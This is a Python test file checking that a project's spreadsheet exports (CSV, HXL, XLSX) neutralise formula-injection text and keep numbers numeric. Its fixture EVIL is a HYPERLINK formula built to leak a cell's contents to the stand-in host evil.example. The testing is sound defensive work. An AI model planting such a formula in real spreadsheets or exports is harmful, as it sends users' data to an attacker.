"""What Backbone writes never runs as a formula in a spreadsheet, and numbers stay numbers."""

import csv
import io

import pytest
from openpyxl import load_workbook

from backbone.measurement import exports
from backbone.measurement.exports import Sheet, safe_text, write
from backbone.measurement.testing import approved_upload
from backbone.network.services import organization_update

EVIL = '=HYPERLINK("http://evil.example/?leak="&A2,"x")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_that_a_spreadsheet_would_run_is_neutralised(start):
    assert safe_text(f"{start}SUM(A1:A9)") == f"'{start}SUM(A1:A9)"


def test_numbers_and_plain_text_are_written_as_they_are():
    assert safe_text(-12) == -12
    assert safe_text(-0.5) == -0.5
    assert safe_text("UA-46") == "UA-46"
    assert safe_text(None) == ""


def _csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode())))


def test_csv_and_hxl_carry_no_live_formula_and_keep_negative_numbers():
    sheet = Sheet(headers=["name", "value"], rows=[[EVIL, -3], ["+1 555", 4]], tags=["#org", "#x"])
    for fmt in ("csv", "hxl"):
        rows = _csv_rows(write(Sheet(sheet.headers, list(sheet.rows), sheet.tags), fmt))
        body = rows[2:] if fmt == "hxl" else rows[1:]
        assert body == [["'" + EVIL, "-3"], ["'+1 555", "4"]]


def test_xlsx_writes_formula_like_text_as_text_and_numbers_as_numbers():
    data = write(Sheet(headers=["name", "value"], rows=[[EVIL, -3], ["ok\x00\x07", 2.5]]), "xlsx")
    sheet = load_workbook(io.BytesIO(data)).active
    name, value = sheet["A2"], sheet["B2"]
    assert name.data_type == "s" and name.value == EVIL
    assert value.data_type == "n" and value.value == -3
    # Control characters stored earlier cannot break the file.
    assert sheet["A3"].value == "ok"


def test_an_organization_named_like_a_formula_is_exported_inert(measure, world):
    approved_upload(
        collective=world.national,
        organization=world.org_a,
        reporter=world.reporter_a,
        staff=world.staff,
        rows=[{"indicator": "workers", "place": "UA-46", "period": "2025-01", "value": "7"}],
    )
    organization_update(organization=world.org_a, name=EVIL)
    csv_data = write(exports.values_sheet(world.national), "csv")
    rows = _csv_rows(csv_data)
    org_cells = [cell for row in rows for cell in row if "HYPERLINK" in cell]
    assert org_cells and all(cell.startswith("'=") for cell in org_cells)
    xlsx = load_workbook(io.BytesIO(write(exports.values_sheet(world.national), "xlsx"))).active
    cells = [c for row in xlsx.iter_rows() for c in row if "HYPERLINK" in str(c.value)]
    assert cells and all(c.data_type == "s" for c in cells)
    assert any(c.value == 7 and c.data_type == "n" for row in xlsx.iter_rows() for c in row)


def test_the_errors_file_of_a_refused_upload_carries_no_live_formula(measure, world):
    upload = (
        "indicator,place,period,value\n"
        f'workers,"{EVIL.replace(chr(34), chr(34) * 2)}",2025-01,1\n'
        "workers,@SUM(1),2025-01,-1\n"
    ).encode()
    from backbone.measurement.imports import ImportRefused, import_values

    with pytest.raises(ImportRefused) as refused:
        import_values(
            collective=world.national,
            organization=world.org_a,
            user=world.reporter_a,
            file_name="bad.csv",
            stream=io.BytesIO(upload),
        )
    sheet = exports.errors_sheet("bad.csv", io.BytesIO(upload), refused.value.problems)
    rows = _csv_rows(write(sheet, "csv"))
    assert all(not cell.startswith(("=", "@", "+")) for row in rows for cell in row)
    xlsx = load_workbook(
        io.BytesIO(
            write(
                exports.errors_sheet("bad.csv", io.BytesIO(upload), refused.value.problems), "xlsx"
            )
        )
    ).active
    assert all(c.data_type != "f" for row in xlsx.iter_rows() for c in row)
